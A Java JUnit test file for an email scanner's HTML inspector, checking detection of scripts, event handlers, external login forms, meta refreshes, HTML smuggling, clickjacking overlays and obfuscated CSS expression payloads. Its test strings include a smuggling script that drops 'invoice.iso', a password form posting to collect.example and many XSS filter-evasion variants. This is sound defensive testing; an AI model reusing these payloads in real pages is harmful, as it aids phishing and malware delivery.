package org.streamail.detect.content.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.streamail.detect.content.internal.ExecutableDetectionTest.only;
import static org.streamail.detect.content.internal.Samples.*;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.streamail.testsupport.CountingText;
import org.streamail.api.model.Finding;

class HtmlTest {
    static final String NEWSLETTER = """
            <!DOCTYPE html><html><head><meta charset="utf-8"><title>News</title>
            <style>body{font-family:Arial} .btn{background:#06c;color:#fff}</style></head>
            <body><div style="display:none;max-height:0;overflow:hidden">This week's preheader text</div>
            <table width="100%" cellpadding="0"><tr><td style="width:100%;padding:12px">
            <img src="https://cdn.example.com/logo.png" alt="Logo" width="120">
            <h1>Spring sale</h1><p>Our spring collection is here. <a class="btn" href="https://shop.example.com/sale">Shop now</a></p>
            <img src="data:image/png;base64,iVBORw0KGgo=" alt="">
            <p style="font-size:11px;color:#888">Unsubscribe: <a href="https://shop.example.com/u?id=1">here</a></p>
            </td></tr></table></body></html>""";

    static List<Finding> scanHtml(String html) {
        return scan(message("", html));
    }

    @Test
    void aNewsletterWithoutScriptIsClean() {
        assertThat(scanHtml(NEWSLETTER)).isEmpty();
        assertThat(scanAttachment("news.html", "text/html", utf8(NEWSLETTER))).isEmpty();
    }

    @Test
    void scriptsAndScriptUrlsAreFound() {
        Finding f = only(scanHtml("<p>hi</p><script>document.write(1)</script>"), "html-script");
        assertThat(f.part()).isEqualTo("html body");
        assertThat(rules(scanHtml("<a href=' JavaScript:alert(1)'>x</a>"))).contains("html-script");
    }

    @Test
    void eventHandlersAreFound() {
        assertThat(only(scanHtml("<img src=x onerror=\"fetch('//x')\">"), "html-event-handler").detail())
                .contains("onerror");
    }

    @Test
    void framesObjectsAndEmbedsAreFound() {
        assertThat(rules(scanHtml("<iframe src='https://evil.example/'></iframe>"))).contains("html-embed");
        assertThat(rules(scanHtml("<object data='x.swf'></object>"))).contains("html-embed");
        assertThat(rules(scanHtml("<embed src='x.swf'>"))).contains("html-embed");
    }

    @Test
    void aFormPostingElsewhereIsFound() {
        assertThat(only(scanHtml("<form action='https://collect.example/login' method=post><input type=password></form>"),
                "html-form-external").detail()).contains("collect.example");
        assertThat(rules(scanHtml("<form><input name=q></form>"))).doesNotContain("html-form-external");
    }

    @Test
    void aMetaRefreshToAnotherSiteIsFound() {
        assertThat(only(scanHtml("<meta http-equiv='refresh' content='0; url=https://evil.example/'>"),
                "html-meta-refresh").detail()).contains("https://evil.example/");
    }

    @Test
    void aMetaRefreshWithoutUrlEqualsIsFound() {
        // Browsers follow the HTML standard's refresh parsing: "url=" is optional, the target may follow the
        // delay after ";", "," or white space.
        for (String content : new String[] {"0;https://evil.example/", "0, 'https://evil.example/'",
            "3 https://evil.example/", "0.5; \"https://evil.example/\""}) {
            assertThat(only(scanHtml("<meta http-equiv=refresh content=\"" + content.replace("\"", "&quot;") + "\">"),
                    "html-meta-refresh").detail()).as(content).contains("https://evil.example/");
        }
        assertThat(rules(scanHtml("<meta http-equiv=refresh content=\"30\">"))).doesNotContain("html-meta-refresh");
        assertThat(rules(scanHtml("<meta http-equiv=refresh content=\"30; URL = \">"))).doesNotContain("html-meta-refresh");
        assertThat(rules(scanHtml("<meta http-equiv=refresh content=\"x; https://evil.example/\">")))
                .doesNotContain("html-meta-refresh");
    }

    @Test
    void activeDataUrisAreFoundButDataImagesAreNot() {
        assertThat(rules(scanHtml("<a href='data:text/html;base64,PHNjcmlwdD4='>open</a>"))).contains("html-data-uri");
        assertThat(rules(scanHtml("<img src='data:image/png;base64,iVBORw0KGgo='>"))).isEmpty();
    }

    @Test
    void htmlSmugglingIsFound() {
        String smuggle = "<script>var b=atob('TVqQAAMAAAAEAAAA');var a=new Uint8Array(b.length);"
                + "var blob=new Blob([a],{type:'application/octet-stream'});var l=document.createElement('a');"
                + "l.href=URL.createObjectURL(blob);l.download='invoice.iso';l.click();</script>";
        List<Finding> f = scan(message("", "", attachment("invoice.html", "text/html", utf8(smuggle))));
        assertThat(only(f, "html-smuggling").part()).isEqualTo("invoice.html");
        assertThat(rules(scanHtml("<a download='x.exe' href='data:application/octet-stream;base64,TVqQ'>get</a>")))
                .contains("html-smuggling");
    }

    @Test
    void overlaysAreFound() {
        assertThat(rules(scanHtml("<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999'>"
                + "<a href='https://evil.example'>continue</a></div>"))).contains("html-overlay");
        assertThat(rules(scanHtml("<a href='https://evil.example' style='position:absolute;opacity:0;"
                + "top:0;left:0'>x</a><a href='https://bank.example'>Your bank</a>"))).contains("html-overlay");
        assertThat(rules(scanHtml("<style>.o{position:fixed;inset:0;z-index:2147483647}</style><div class=o></div>")))
                .contains("html-overlay");
    }

    @Test
    void scriptInCssIsFoundThroughItsEvasions() {
        String[] active = {
            "<div style=\"width:expression(alert(1))\">x</div>",
            "<div style=\"WIDTH: EXPRESSION (alert(1))\">x</div>",
            "<div style=\"width:expr/**/ession(alert(1))\">x</div>",
            "<div style=\"width:\\65 xpression(alert(1))\">x</div>",
            "<div style=\"width:\\000065xpression(alert(1))\">x</div>",
            "<div style=\"width:e\\xpression(alert(1))\">x</div>",
            "<div style=\"width:exp\\0ression(alert(1))\">x</div>",
            "<div style=\"width:&#101;xpression&#x28;alert(1))\">x</div>",
            "<div style=\"width:&#92;65 xpression(alert(1))\">x</div>",
            "<div style=\"width:expression\n\t(alert(1))\">x</div>",
            "<style>p { color: red }\n.x { width: ex/* c */pression(alert(1)) }</style><p class=x>x</p>",
            "<style>.x{ background:\\45 XPRESSION(alert(1)) }</style>",
            "<div style=\"behavior:url(https://evil.example/x.htc)\">x</div>",
            "<style>body { -ms-behavior: url('x.htc') }</style>",
            "<style>div { -moz-binding: url(\"https://evil.example/x.xml#xss\") }</style>",
            "<div style=\"background:url( 'javascript:alert(1)')\">x</div>",
            // look-alikes old IE read as ASCII in CSS
            "<div style=\"width:\uFF45\uFF58\uFF50\uFF52\uFF45\uFF53\uFF53\uFF49\uFF4F\uFF4E(alert(1))\">x</div>",
            "<div style=\"left:\uFF25\uFF38\uFF30\uFF32\uFF25\uFF33\uFF33\uFF29\uFF2F\uFF2E\uFF08alert(1)\uFF09\">x</div>",
            "<div style=\"width:exp\u0280ess\u026Ao\u0274\u207Dalert(1))\">x</div>",
            "<div style=\"background:u\u0280\u029F(\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54\uFF1A"
                    + "alert(1))\">x</div>",
            "<style>.x { width: \\FF45 xpression(alert(1)) }</style>",
        };
        for (String html : active) {
            assertThat(rules(scanHtml(html))).as(html).contains("html-css-script");
            assertThat(rules(scanAttachment("page.html", "text/html", utf8(html)))).as(html)
                    .contains("html-css-script");
        }
        Finding f = only(scanHtml(active[0]), "html-css-script");
        assertThat(f.score()).isEqualTo(5.0);
        assertThat(f.part()).isEqualTo("html body");
    }

    @Test
    void cssWithoutScriptIsNotScriptInCss() {
        // Word/Outlook-made HTML binds VML with a built-in behaviour; prose may say "expression".
        String word = "<style>v\\:* {behavior:url(#default#VML);} o\\:* {behavior: url('#default#VML')}</style>"
                + "<p style=\"font-family:'Expression Sans';background:url(https://cdn.example/bg.png)\">"
                + "A regular expression (regex) walks into a bar.</p><div style=\"-moz-binding:none\">x</div>";
        assertThat(rules(scanHtml(word))).doesNotContain("html-css-script");
        assertThat(scanHtml(NEWSLETTER)).isEmpty();
        // full-width text in Japanese mail styles folds to harmless CSS
        String japanese = "<p style=\"font-family:'\uFF2D\uFF33 \uFF30\u30B4\u30B7\u30C3\u30AF';color:#333\">"
                + "\uFF45\uFF58\uFF50\uFF52\uFF45\uFF53\uFF53\uFF49\uFF4F\uFF4E\uFF08\uFF09 in prose</p>";
        assertThat(scanHtml(japanese)).isEmpty();
    }

    @Test
    void aLongRunOfSpacesInCssOrAMetaRefreshIsReadOnce() {
        // found by WalkerFuzzTest#cssAndBase64Scans (seeds css-url-spaces, meta-refresh-spaces): "url(" or "url="
        // and then spaces made the optional quote between two white-space runs try every split of the run
        String spaces = " ".repeat(5_000);
        for (String css : new String[] {"url(" + spaces + "x", "behavior:url(" + spaces + "#", "url(" + spaces}) {
            CountingText t = new CountingText(css);
            assertThat(HtmlInspector.CSS_SCRIPT.matcher(t).find()).isFalse();
            assertThat(t.reads()).as(css.substring(0, 14)).isLessThan(10L * css.length());
        }
        CountingText meta = new CountingText("0; url=" + spaces + ";");
        assertThat(HtmlInspector.META_URL.matcher(meta).find()).isFalse();
        assertThat(meta.reads()).isLessThan(10L * meta.length());

        // what the patterns find is unchanged, the spaces and quote included
        assertThat(rules(scanHtml("<p style=\"background:url(" + spaces + "'" + spaces + "javascript:alert(1))\">x</p>")))
                .contains("html-css-script");
        assertThat(rules(scanHtml("<i style='behavior: url( \"x.htc\")'>x</i>"))).contains("html-css-script");
        assertThat(only(scanHtml("<meta http-equiv=refresh content=\"0; URL = '" + spaces + "https://evil.example/'\">"),
                "html-meta-refresh").detail()).contains("https://evil.example/");
    }
}
